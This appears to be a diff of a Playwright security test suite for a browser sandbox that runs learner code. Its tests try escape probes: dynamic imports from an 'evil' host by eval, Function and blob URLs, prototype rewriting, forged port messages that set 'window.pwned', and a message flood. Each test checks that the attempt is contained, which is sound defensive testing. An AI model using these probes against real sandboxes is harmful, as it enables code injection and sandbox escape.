@@ -10,6 +10,7 @@ import {
   printed,
   row,
   run,
+  runRaw,
   until,
   watchFrames,
 } from './sandbox-kit';
@@ -160,7 +161,7 @@ test.describe('attacks', () => {
     'import()': `await import(evil + '/import')`,
     'import() by eval': `await eval('import("' + evil + '/eval-import")')`,
     'import() by Function': `await Function('u', 'return import(u)')(evil + '/function-import')`,
-    'import() by AsyncFunction': `await (async () => {}).constructor('u', 'return await import(u)')(evil + '/async-import')`,
+    'import() by an async function of text': `await eval('(async (u) => await import(u))')(evil + '/async-import')`,
     'import() same origin': `await import(home + '_app/version.json')`,
     'import() of data': `await import('data:text/javascript,export default 1')`,
     'import() in a blob': `await import(URL.createObjectURL(new Blob(['import "' + evil + '/blob-import"'], { type: 'text/javascript' })))`,
@@ -211,15 +212,13 @@ test.describe('attacks', () => {
     });
     await makeSandbox(page);
     const program = `
-      import { sleep } from 'otp'
-      const evaluate = [].constructor.constructor
+      const evaluate = Function
       evaluate('probes', 'evil', 'home', \`
-        const AsyncFunction = (async () => {}).constructor
         self.found = {}
         for (const [name, code] of Object.entries(probes)) {
           self.found[name] = 'no answer'
           const finish = (how) => { self.found[name] = how }
-          try { AsyncFunction('evil', 'home', code)(evil, home).then(() => finish('open'), (e) => finish('closed ' + (e?.name ?? e?.type ?? e))) }
+          try { eval('(async (evil, home) => {' + code + '})')(evil, home).then(() => finish('open'), (e) => finish('closed ' + (e?.name ?? e?.type ?? e))) }
           catch (e) { finish('closed ' + e.name) }
         }
         try { const b = new BroadcastChannel('otp-lab'); b.postMessage('broadcast') } catch {}
@@ -227,11 +226,11 @@ test.describe('attacks', () => {
         try { self.postMessage('out') } catch {}
         try { self.dispatchEvent(new MessageEvent('message', { data: 0 })) } catch {}
       \`)(${JSON.stringify(probes)}, ${JSON.stringify(address)}, ${JSON.stringify(baseURL)})
-      await sleep(3000)
+      yield sleep(3000)
       console.log('found ' + JSON.stringify(evaluate('return self.found')()))
       console.log('globals ' + evaluate('return typeof fetch + typeof Worker')())
     `;
-    await run(page, program);
+    await runRaw(page, program);
     const found = JSON.parse(await printed(page, 'found ', 20_000)) as Record<string, string>;
     expect(Object.keys(found).sort()).toEqual(Object.keys(probes).sort());
     // They really reached the host's globals, and were still shut in.
@@ -286,12 +285,31 @@ test.describe('attacks', () => {
     ]);
   });
 
-  test('[SBX4] learner code finds no port to post on, and cannot replace how we post', async ({ page }) => {
+  test('[SBX5] [TS57] [TS58] learner code cannot rewrite the language, and its error has a line', async ({
+    page,
+  }) => {
     await makeSandbox(page);
     await run(
       page,
-      `import { sleep } from 'otp'
-      const evaluate = [].constructor.constructor
+      `import { spawn } from 'otp'
+      const array: any = Array
+      spawn(() => { array.prototype.map = () => [] })
+      spawn(() => { array.prototype[Symbol.iterator] = () => 1 })
+      spawn(() => { (() => {}).constructor('return self')().JSON = 1 })
+      console.log('still ' + [...[1, 2]].map((x) => x + 1).join())`,
+    );
+    expect(await printed(page, 'still ')).toBe('2,3');
+    await row(page, ['exit'], 'Cannot assign to read only property');
+    await row(page, ['exit'], 'main.ts:5');
+    await row(page, ['exit'], 'does not exist in the sandbox');
+    expect(await page.evaluate(() => window.client.state)).toMatch(/ready|running/);
+  });
+
+  test('[SBX4] learner code finds no port to post on, and cannot replace how we post', async ({ page }) => {
+    await makeSandbox(page);
+    await runRaw(
+      page,
+      `const evaluate = Function
       const seen = evaluate(\`
         const seen = []
         const raw = { id: '1', type: 'CONSTRUCT', path: ['onEvent', 'constructor'], argumentList: [{ type: 'RAW', value: 'window.pwned = 1' }] }
@@ -304,7 +322,7 @@ test.describe('attacks', () => {
         for (const key of Reflect.ownKeys(self)) { let v; try { v = self[key] } catch { continue } if (v instanceof MessagePort) { seen.push(String(key)); v.postMessage(raw) } }
         return seen
       \`)()
-      await sleep(300)
+      yield sleep(300)
       console.log('seen ' + seen.join())`,
     );
     expect(await printed(page, 'seen ')).toBe('');
@@ -377,9 +395,9 @@ test.describe('attacks', () => {
   test('[SBX3] a flood of real postMessage by learner code goes nowhere', async ({ page }) => {
     await makeSandbox(page);
     await watchFrames(page);
-    await run(
+    await runRaw(
       page,
-      `[].constructor.constructor('for (;;) self.postMessage({ type: "error", message: "x".repeat(1000) })')()`,
+      `Function('for (;;) self.postMessage({ type: "error", message: "x".repeat(1000) })')()`,
     );
     expect(await ended(page)).toMatchObject({ cause: expect.stringMatching(/hung|process_gone/) });
     expect(await longestFrame(page)).toBeLessThan(RESPONSIVE);
